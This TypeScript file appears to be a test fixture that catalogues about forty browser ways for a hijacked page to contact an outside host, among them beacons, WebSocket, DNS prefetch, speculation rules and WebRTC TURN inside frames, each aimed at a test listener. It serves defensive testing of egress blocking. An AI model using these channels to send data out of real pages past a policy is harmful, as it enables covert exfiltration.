import type { Target } from './listeners.ts'

/**
 * Every way out of a page that is known to us, as a page would try it that somebody else has taken over. Each runs in the page, so that its
 * source must be whole in itself; what a way answers is waited for, and what it throws is what it met.
 */
export type Way = (target: Target) => unknown

/** Ways that leave the page where it is: all of them are tried in one. */
export const ways = {
  fetch: ({ host, tcp }) => fetch(`https://${host}:${tcp}/`, { mode: 'no-cors' }),
  'fetch-kept-alive': ({ host, tcp }) =>
    fetch(`https://${host}:${tcp}/`, { mode: 'no-cors', keepalive: true, method: 'POST', body: 'x' }),
  xhr: ({ host, tcp }) => {
    const request = new XMLHttpRequest()
    request.open('GET', `https://${host}:${tcp}/`)
    request.send()
  },
  websocket: ({ host, tcp }) => new WebSocket(`wss://${host}:${tcp}/`),
  'event-source': ({ host, tcp }) => new EventSource(`https://${host}:${tcp}/`),
  beacon: ({ host, tcp }) => navigator.sendBeacon(`https://${host}:${tcp}/`, 'x'),
  image: ({ host, tcp }) => {
    new Image().src = `https://${host}:${tcp}/image.png`
  },
  video: ({ host, tcp }) => {
    document.body.append(
      Object.assign(document.createElement('video'), { preload: 'auto', src: `https://${host}:${tcp}/video.mp4` }),
    )
  },
  stylesheet: ({ host, tcp }) => {
    document.head.append(
      Object.assign(document.createElement('link'), { rel: 'stylesheet', href: `https://${host}:${tcp}/style.css` }),
    )
  },
  // A sheet that is made by script needs no leave of the policy's; what it names does.
  'made-stylesheet': ({ host, tcp }) => {
    const sheet = new CSSStyleSheet()
    sheet.replaceSync(`html { background-image: url(https://${host}:${tcp}/background.png) }`)
    document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet]
    return document.documentElement.getBoundingClientRect()
  },
  font: ({ host, tcp }) => new FontFace('far', `url(https://${host}:${tcp}/font.woff2)`).load(),
  script: ({ host, tcp }) => {
    document.head.append(Object.assign(document.createElement('script'), { src: `https://${host}:${tcp}/script.js` }))
  },
  import: ({ host, tcp }) => import(/* @vite-ignore */ `https://${host}:${tcp}/module.js`),
  worklet: ({ host, tcp }) => new OfflineAudioContext(1, 1, 8_000).audioWorklet.addModule(`https://${host}:${tcp}/worklet.js`),
  worker: ({ host, tcp }) => {
    // The worker's own script is this page's; it fetches from elsewhere.
    const script = new Blob([`fetch('https://${host}:${tcp}/', { mode: 'no-cors' })`], { type: 'text/javascript' })
    return new Worker(URL.createObjectURL(script))
  },
  prefetch: ({ host, tcp }) => {
    document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: `https://${host}:${tcp}/next` }))
  },
  preload: ({ host, tcp }) => {
    document.head.append(
      Object.assign(document.createElement('link'), { rel: 'preload', as: 'image', href: `https://${host}:${tcp}/next.png` }),
    )
  },
  modulepreload: ({ host, tcp }) => {
    document.head.append(
      Object.assign(document.createElement('link'), { rel: 'modulepreload', href: `https://${host}:${tcp}/next.js` }),
    )
  },
  preconnect: ({ host, tcp }) => {
    document.head.append(Object.assign(document.createElement('link'), { rel: 'preconnect', href: `https://${host}:${tcp}/` }))
  },
  'dns-prefetch': ({ host }) => {
    document.head.append(Object.assign(document.createElement('link'), { rel: 'dns-prefetch', href: `//${host}/` }))
  },
  manifest: ({ host, tcp }) => {
    document.head.append(
      Object.assign(document.createElement('link'), { rel: 'manifest', href: `https://${host}:${tcp}/manifest.json` }),
    )
  },
  icon: ({ host, tcp }) => {
    document.head.append(Object.assign(document.createElement('link'), { rel: 'icon', href: `https://${host}:${tcp}/icon.png` }))
  },
  speculation: ({ host, tcp }) => {
    const text = JSON.stringify({ prefetch: [{ urls: [`https://${host}:${tcp}/`], eagerness: 'immediate' }] })
    document.head.append(Object.assign(document.createElement('script'), { type: 'speculationrules', text }))
  },
  iframe: ({ host, tcp }) => {
    document.body.append(Object.assign(document.createElement('iframe'), { src: `https://${host}:${tcp}/` }))
  },
  object: ({ host, tcp }) => {
    document.body.append(Object.assign(document.createElement('object'), { data: `https://${host}:${tcp}/` }))
  },
  'form-in-frame': ({ host, tcp }) => {
    document.body.append(Object.assign(document.createElement('iframe'), { name: 'form-in-frame' }))
    const form = Object.assign(document.createElement('form'), {
      action: `https://${host}:${tcp}/`,
      method: 'post',
      target: 'form-in-frame',
    })
    document.body.append(form)
    form.submit()
  },
  ping: ({ host, tcp }) => {
    const link = Object.assign(document.createElement('a'), { href: '#here', ping: `https://${host}:${tcp}/` })
    document.body.append(link)
    link.click()
  },
  payment: ({ host, tcp }) =>
    new PaymentRequest([{ supportedMethods: `https://${host}:${tcp}/pay` }], {
      total: { label: 'x', amount: { currency: 'USD', value: '1' } },
    }).canMakePayment(),
  identity: ({ host, tcp }) =>
    navigator.credentials.get({
      identity: { providers: [{ configURL: `https://${host}:${tcp}/fedcm.json`, clientId: 'x' }] },
    } as CredentialRequestOptions),
  webtransport: ({ host, udp }) => new (Reflect.get(globalThis, 'WebTransport'))(`https://${host}:${udp}/`).ready,
  'webrtc-udp': async ({ udp }) => {
    const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${udp}` }] })
    peer.createDataChannel('x')
    await peer.setLocalDescription()
  },
  'webrtc-tcp': async ({ tcp }) => {
    const peer = new RTCPeerConnection({
      iceServers: [{ urls: `turn:127.0.0.1:${tcp}?transport=tcp`, username: 'out', credential: 'x' }],
    })
    peer.createDataChannel('x')
    await peer.setLocalDescription()
  },
  // The name itself is what leaves.
  'webrtc-name': async ({ host, tcp }) => {
    const peer = new RTCPeerConnection({
      iceServers: [{ urls: `turn:${host}:${tcp}?transport=tcp`, username: 'out', credential: 'x' }],
    })
    peer.createDataChannel('x')
    await peer.setLocalDescription()
  },
  'webrtc-in-empty-frame': async ({ host, tcp }) => {
    const frame = document.createElement('iframe')
    document.body.append(frame)
    const there = frame.contentWindow as Window & typeof globalThis
    const peer = new there.RTCPeerConnection({
      iceServers: [{ urls: `turn:${host}:${tcp}?transport=tcp`, username: 'out', credential: 'x' }],
    })
    peer.createDataChannel('x')
    await peer.setLocalDescription()
  },
  'webrtc-in-written-frame': async ({ host, tcp }) => {
    const frame = document.createElement('iframe')
    // Trusted Types would keep a text out; an empty document needs none.
    const loaded = new Promise((resolve) => frame.addEventListener('load', resolve))
    frame.setAttribute('src', 'about:blank')
    document.body.append(frame)
    await loaded
    const there = frame.contentWindow as Window & typeof globalThis
    const peer = new there.RTCPeerConnection({
      iceServers: [{ urls: `turn:${host}:${tcp}?transport=tcp`, username: 'out', credential: 'x' }],
    })
    peer.createDataChannel('x')
    await peer.setLocalDescription()
  },
} satisfies Record<string, Way>

/** Ways that take the page elsewhere, or open another: each is tried in a page of its own. */
export const waysAway = {
  download: ({ host, tcp }) => {
    const link = Object.assign(document.createElement('a'), { href: `http://${host}:${tcp}/file`, download: 'file' })
    document.body.append(link)
    link.click()
  },
  navigation: ({ host, tcp }) => {
    location.href = `http://${host}:${tcp}/`
  },
  form: ({ tcp }) => {
    // A form to a name would be warned of, as it goes without encryption.
    const form = Object.assign(document.createElement('form'), { action: `http://127.0.0.1:${tcp}/`, method: 'post' })
    document.body.append(form)
    form.submit()
  },
  'meta-refresh': ({ host, tcp }) => {
    const meta = Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: `0;url=http://${host}:${tcp}/` })
    document.head.append(meta)
  },
  'window-open': ({ host, tcp }) => {
    open(`http://${host}:${tcp}/`)
  },
} satisfies Record<string, Way>

/** Every way, and what shows that it led somewhere. A page that goes elsewhere is connected ahead: only its request is its own. */
export const evidence = {
  ...(Object.fromEntries(Object.keys(ways).map((name) => [name, 'tcp'])) as Record<keyof typeof ways, Evidence>),
  ...(Object.fromEntries(Object.keys(waysAway).map((name) => [name, 'request'])) as Record<keyof typeof waysAway, Evidence>),
  'dns-prefetch': 'dns',
  // It goes by UDP, and Chromium asks a person before it talks to this computer; by then the name is out.
  webtransport: 'dns',
  'webrtc-udp': 'udp',
} satisfies Record<WayName, Evidence>

export type Evidence = 'dns' | 'udp' | 'tcp' | 'request'
export type WayName = keyof typeof ways | keyof typeof waysAway
